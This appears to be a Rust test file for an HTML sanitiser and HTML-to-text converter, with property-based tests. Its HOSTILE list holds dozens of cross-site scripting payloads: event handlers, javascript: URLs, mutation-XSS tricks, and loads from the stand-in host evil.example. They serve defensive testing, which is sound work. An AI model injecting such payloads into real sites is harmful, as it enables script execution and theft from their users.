use model::SpanKind;
use proptest::prelude::*;
use url::Url;

use super::{Plain, looks_like_html, plain, to_html, to_text, web_url};

#[track_caller]
fn check_text(html: &str, expect: &str) {
    assert_eq!(to_text(html, None).text, expect, "text of {html:?}");
}

#[track_caller]
fn check_html(html: &str, expect: &str) {
    assert_eq!(to_html(html, None), expect, "safe form of {html:?}");
}

fn links(plain: &Plain) -> Vec<(&str, &str)> {
    let links = plain.spans.iter().filter_map(|span| match &span.kind {
        SpanKind::Link(url) => Some((&plain.text[span.range.clone()], &**url)),
        _ => None,
    });
    links.collect()
}

#[test]
fn blocks_become_lines() {
    check_text("<p>Un</p><p>Deux<br>trois</p>", "Un\n\nDeux\ntrois");
    check_text("<div>a</div><div>b</div>", "a\nb");
    check_text(
        "<ul><li>un</li><li>deux</li></ul>après",
        "• un\n• deux\n\naprès",
    );
    check_text("<h2>Titre</h2>Corps", "Titre\n\nCorps");
    check_text(
        "<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>",
        "a b\nc",
    );
    check_text("<p></p><p> </p><br><br><br>x", "x");
    check_text("un<br><br><br><br>deux", "un\n\ndeux");
}

#[test]
fn white_space_collapses_but_in_pre() {
    check_text("  un \n\t deux  ", "un deux");
    check_text("<b>un</b> <i>deux</i>", "un deux");
    check_text("un<b> deux</b>trois", "un deuxtrois");
    check_text("<pre>a\n  b\n\n\n\nc</pre>", "a\nb\n\nc");
    check_text("prix\u{a0}: 3&nbsp;€", "prix\u{a0}: 3\u{a0}€");
}

#[test]
fn references_are_resolved_once() {
    check_text(
        "l&#39;&eacute;t&eacute; &amp; l&rsquo;hiver",
        "l'été & l’hiver",
    );
    check_text("&amp;lt;b&amp;gt;", "&lt;b&gt;");
    check_text("&#0;&#x1F600;&#xD800;", "\u{fffd}😀\u{fffd}");
    check_text("a &b c & d", "a &b c & d");
    check_text("1 < 2 et 3 > 2", "1 < 2 et 3 > 2");
}

#[test]
fn code_and_other_grammars_are_left_out() {
    check_text("a<script>alert('<p>')</script>b", "ab");
    check_text("a<style>p { color: red }</style>b", "ab");
    check_text("a<svg><text>x</text><script>1</script></svg>b", "ab");
    check_text("a<math><mi>x</mi></math>b", "ab");
    check_text("a<template><p>x</p></template>b", "ab");
    check_text("a<iframe src=x><p>y</iframe>b", "ab");
    check_text("a<!-- <p>caché</p> -->b", "ab");
    check_text("a<object><object>x</object>y</object>b", "ab");
    check_text("a<script/>b</script>c", "ac");
    check_text("a<svg/>b", "ab");
    check_text(
        "<html><head><title>t</title></head><body>corps</body></html>",
        "corps",
    );
}

#[test]
fn controls_are_dropped() {
    check_text("a\0b\u{7}c\u{1b}[31md", "abc[31md");
    assert_eq!(plain("a\0b\u{85}c\td\ne\r"), "abc\td\ne");
}

#[test]
fn links_become_spans() {
    let text = to_text(
        r#"<p>Voir <a href="https://exemple.fr/a?b=1&amp;c=2"> la  <b>page</b></a>, <a href="/b">ici</a>
        <a href="javascript:alert(1)">non</a> <a href="https://vide.fr/"> </a><a href="mailto:x@y.fr">m</a></p>"#,
        Url::parse("https://site.fr/x/").ok().as_ref(),
    );
    assert_eq!(text.text, "Voir la page, ici non m");
    assert_eq!(
        links(&text),
        [
            ("la page", "https://exemple.fr/a?b=1&c=2"),
            ("ici", "https://site.fr/b")
        ]
    );
}

#[test]
fn links_inside_links_and_never_closed_do_not_overlap() {
    let text = to_text(
        r#"<a href="https://a.fr">un <a href="https://b.fr">deux"#,
        None,
    );
    assert_eq!(
        links(&text),
        [("un", "https://a.fr/"), ("deux", "https://b.fr/")]
    );
}

#[test]
fn images_are_told_apart_from_counters_and_emoji() {
    let html = r#"<img src="/photo.jpg" alt="La patinoire" width="600" height="400px">
        <img src="https://compteur.fr/p.gif" width=1 height=1>
        <img class="emoji wp-smiley" alt="😀" src="https://s.w.org/1f600.png"><img src="data:image/png;base64,x">"#;
    let text = to_text(html, Url::parse("https://site.fr/").ok().as_ref());
    assert_eq!(text.text, "😀");
    assert_eq!(text.images.len(), 1);
    let image = &text.images[0];
    assert_eq!(
        (&*image.url, &*image.alt, image.width, image.height),
        (
            "https://site.fr/photo.jpg",
            "La patinoire",
            Some(600),
            Some(400)
        )
    );
}

#[test]
fn allow_list_keeps_layout_and_drops_the_rest() {
    check_html("<p>a<b>b</b></p>", "<p>a<b>b</b></p>");
    check_html(
        r#"<a href="https://a.fr/?x=1&y=2" class="u" target="_top" onclick="x()">a</a>"#,
        r#"<a href="https://a.fr/?x=1&amp;y=2" rel="noopener noreferrer nofollow ugc">a</a>"#,
    );
    check_html(
        "<h1>Titre</h1><p>a</p>",
        "<strong>Titre</strong><br><p>a</p>",
    );
    check_html(
        r#"<ol start="3" type="i"><li value="4">a</li></ol>"#,
        r#"<ol start="3"><li value="4">a</li></ol>"#,
    );
    check_html(
        "<div><span style='x'>a</span><img src=x></div>",
        "<span>a</span>",
    );
    check_html("<form><input><button>a</button></form>", "a");
    check_html("<marquee>a</marquee>", "a");
}

/// What strangers write to make a page run their code, track its reader, or take its shape.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<script><script>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" jAvAsCrIpT&#58;alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"https://a.fr\" style=\"position:fixed;inset:0\">x</a>",
    "<a href='https://a.fr' onmouseover='alert(1)'>x</a>",
    "<a href=\"https://a.fr\" rel=\"opener\" target=\"_blank\">x</a>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style><style/><img src=x onerror=alert(1)>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=//evil.example/>",
    "<body onload=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<template><script>alert(1)</script></template>",
    "<p><object><p>x</p></object></p>",
    "<table><td><p><table><td><p>x</p></td></table></p>",
    "<abbr title='\"><script>alert(1)</script>'>x</abbr>",
    "<abbr title=\"&lt;/abbr&gt;&lt;script&gt;\">x</abbr>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<p id=content class=admin name=body>x</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<b><p><i></b></i></p><a><b></a></b>",
    "<plaintext><script>alert(1)</script>",
    "<select><style></select><script>alert(1)</script>",
    "<frameset onload=alert(1)><frame src=x></frameset>",
    "<a href=\"https://a.fr/\u{202e}gnp.exe\">x\u{202e}y</a>",
    "<ruby>a<rt><script>1</script>b</ruby>",
    "<li value=\"1\" onclick=1><ol reversed start=\"&quot;><script>\">",
    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<p title=\"<h1>\">x</p><abbr title=\"<h1>\">y</abbr>",
    "</p></div></body></html><script>",
    "<a",
    "<a href=\"",
    "<!--",
    "&",
    "&#",
    "<",
    "",
];

/// The allow-list, read back independently of the sanitiser: every `<` of the output opens or closes
/// an element of the list, with the attributes of the list only.
fn assert_only_allowed(html: &str) {
    const TAGS: &str =
        "a abbr b blockquote br code del em i li ol p pre rp rt ruby s span strong sub sup u ul";
    let mut rest = html;
    while let Some(open) = rest.find('<') {
        let close = open + rest[open..].find('>').expect("a tag is closed");
        let inside = rest[open + 1..close].trim_start_matches('/');
        let (name, mut attributes) = inside.split_once(' ').unwrap_or((inside, ""));
        assert!(
            TAGS.split(' ').any(|it| it == name),
            "element {name:?} in {html:?}"
        );
        while !attributes.is_empty() {
            let (attribute, after) = attributes
                .split_once("=\"")
                .expect("an attribute has a value");
            let (value, after) = after.split_once('"').expect("a value is closed");
            match (name, attribute.trim()) {
                ("a", "href") => assert!(
                    ["http://", "https://", "mailto:"]
                        .iter()
                        .any(|it| value.starts_with(it)),
                    "address {value:?} in {html:?}"
                ),
                ("a", "rel") => assert_eq!(value, "noopener noreferrer nofollow ugc"),
                ("abbr", "title") | ("ol", "start" | "reversed") | ("li", "value") => {}
                other => panic!("attribute {other:?} in {html:?}"),
            }
            attributes = after;
        }
        rest = &rest[close + 1..];
    }
}

#[track_caller]
fn assert_harmless(html: &str) {
    let safe = to_html(html, None);
    assert_only_allowed(&safe);
    assert_eq!(to_html(&safe, None), safe, "cleaned twice: {html:?}");
    let based = to_html(html, Url::parse("https://site.fr/a/").ok().as_ref());
    assert_only_allowed(&based);
    let text = to_text(html, None);
    let mut at = 0;
    for span in &text.spans {
        assert!(
            at <= span.range.start && span.range.start < span.range.end,
            "order of spans in {html:?}"
        );
        assert!(
            text.text.get(span.range.clone()).is_some(),
            "span on characters in {html:?}"
        );
        at = span.range.end;
    }
    assert!(
        !text
            .text
            .chars()
            .any(|c| c.is_control() && c != '\n' && c != '\t'),
        "controls of {html:?}"
    );
}

#[test]
fn hostile_markup_is_harmless() {
    for html in HOSTILE {
        assert_harmless(html);
    }
    for (one, two) in HOSTILE.iter().zip(HOSTILE.iter().rev()) {
        assert_harmless(&format!("{one}{two}"));
        assert_harmless(&format!("<p>{one}<a href=\"https://a.fr\">{two}</a></p>"));
    }
}

#[test]
fn hostile_markup_runs_nothing() {
    for html in HOSTILE {
        let safe = to_html(html, None);
        let lower = safe.to_ascii_lowercase();
        assert!(
            !lower.contains("<script") && !lower.contains("<img") && !lower.contains("<svg"),
            "{safe}"
        );
        assert!(
            !lower.contains("javascript:") || !lower.contains("href=\"j"),
            "{safe}"
        );
    }
}

/// A count of what reading costs would be better than time; the parsers give none, so the size of the
/// work is bounded instead: each bomb must come back cut to what a reader can hold.
#[test]
fn bombs_come_back_small() {
    const BOMB: usize = 128 * 1024;
    let repeat = |unit: &str| unit.repeat(BOMB / unit.len());
    let attributes = format!(
        "<p {}>fin",
        (0..20_000).map(|n| format!("a{n} ")).collect::<String>()
    );
    let reopened: String = (0..5_000)
        .map(|n| format!("<p><b id={n}>x</p></i>"))
        .collect();
    for bomb in [
        repeat("<div>"),
        repeat("<b>"),
        repeat("<a href='https://a.fr'>x"),
        repeat("<table><td>"),
        repeat("<p><b><i>x</p>"),
        repeat("<ul><li>x"),
        repeat("&amp;"),
        repeat("<!--"),
        repeat("<"),
        repeat("x"),
        repeat("\u{300}"),
        repeat("<svg>"),
        repeat("</p>"),
        attributes,
        reopened,
    ] {
        let text = to_text(&bomb, None);
        assert!(
            text.text.len() < 70_000,
            "text of {} bytes",
            text.text.len()
        );
        assert!(text.spans.len() <= 500);
        let html = to_html(&bomb, None);
        assert_only_allowed(&html);
        assert!(html.len() <= 8 * BOMB, "HTML of {} bytes", html.len());
    }
}

#[test]
fn megabytes_are_cut() {
    let long = "<p>x</p>".repeat(1_000_000);
    assert!(to_text(&long, None).text.len() < 70_000);
    assert!(to_html(&long, None).len() <= 512 * 1024 + 4);
}

#[test]
fn layout_given_up_is_harmless_too() {
    let deep = "<div><b>a &amp; \"b\"<br><a href='https://a.fr/?x=1&amp;y=\"'>c &lt;i></a>&nbsp;"
        .repeat(150);
    assert_harmless(&deep);
    let safe = to_html(&deep, None);
    assert!(safe.contains("<a href=") && !safe.contains("<b>"), "{safe}");
    assert_eq!(to_text(&safe, None).text, to_text(&deep, None).text);
}

#[test]
fn long_attributes_survive_and_many_do_not() {
    let long = format!("<a href=\"https://a.fr/{}\">x</a>", "y".repeat(2_000));
    assert_eq!(to_text(&long, None).spans.len(), 1);
    let many = format!("avant <a {} href=\"https://a.fr\">x</a>", "b ".repeat(100));
    assert_eq!(
        to_text(&many, None),
        Plain {
            text: "avant x".into(),
            ..Plain::default()
        }
    );
    let quoted = format!(
        "<a title=\"{}\" href=\"https://a.fr\">x</a>",
        "b ".repeat(100)
    );
    assert_eq!(to_text(&quoted, None).spans.len(), 1);
}

#[test]
fn markup_is_recognised() {
    for html in [
        "<b>x</b>",
        "a<br>",
        "x &eacute; y",
        "&#233;",
        "&#xe9;",
        "<!-- x -->",
        "</p>",
    ] {
        assert!(looks_like_html(html), "{html:?}");
    }
    for text in [
        "a < b",
        "1 <2",
        "x & y",
        "R&D; x".replace(';', ",").as_str(),
        "<3",
        "&",
        "a<b",
        "&;",
        "",
    ] {
        assert!(!looks_like_html(text), "{text:?}");
    }
}

#[test]
fn web_urls_are_absolute_and_of_the_web() {
    let base = Url::parse("https://site.fr/a/b").ok();
    let url = |address| web_url(address, base.as_ref());
    assert_eq!(url("/c").as_deref(), Some("https://site.fr/c"));
    assert_eq!(url(" HTTP://A.FR ").as_deref(), Some("http://a.fr/"));
    assert_eq!(url("//b.fr/x").as_deref(), Some("https://b.fr/x"));
    for refused in [
        "javascript:alert(1)",
        "data:,x",
        "",
        "file:///etc/passwd",
        "ftp://a.fr",
        "http://",
    ] {
        assert_eq!(url(refused), None, "{refused:?}");
    }
    assert_eq!(web_url("/c", None), None);
}

fn markup() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        3 => prop::sample::select(HOSTILE.to_vec()).prop_map(str::to_owned),
        2 => "[a-zé <>&;\"'=/!-]{0,12}",
        3 => prop::sample::select(vec![
            "<p>", "</p>", "<b>", "</b>", "<i>", "</i>", "<a href='https://a.fr'>", "</a>", "<ul>", "</ul>", "<li>",
            "<table>", "<td>", "<tr>", "</table>", "<object>", "</object>", "<h2>", "</h2>", "<pre>\n", "</pre>",
            "<button>", "<form>", "<select>", "<option>", "<math>", "<mi>", "<svg>", "<desc>", "<title>", "<style>",
            "</style>", "<br>", "<ruby>", "<rt>", "</rt>", "<template>", "<nobr>", "<font color=red>", "<center>",
            "<blockquote>", "</blockquote>", "<caption>", "<marquee>", "<applet>", "<frameset>", "\0", "\u{c}",
        ]).prop_map(str::to_owned),
    ];
    prop::collection::vec(piece, 0..12).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 16 * ProptestConfig::default().cases, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_markup_is_harmless(html in markup()) {
        assert_harmless(&html);
    }

    #[test]
    fn any_text_is_harmless(html in any::<String>()) {
        assert_harmless(&html);
    }

    #[test]
    fn escaped_text_reads_back(text in "[ -~éà😀]{0,40}") {
        let escaped = text.replace('&', "&amp;").replace('<', "&lt;");
        let words: Vec<&str> = text.split_ascii_whitespace().collect();
        prop_assert_eq!(to_text(&escaped, None).text, words.join(" "));
    }
}
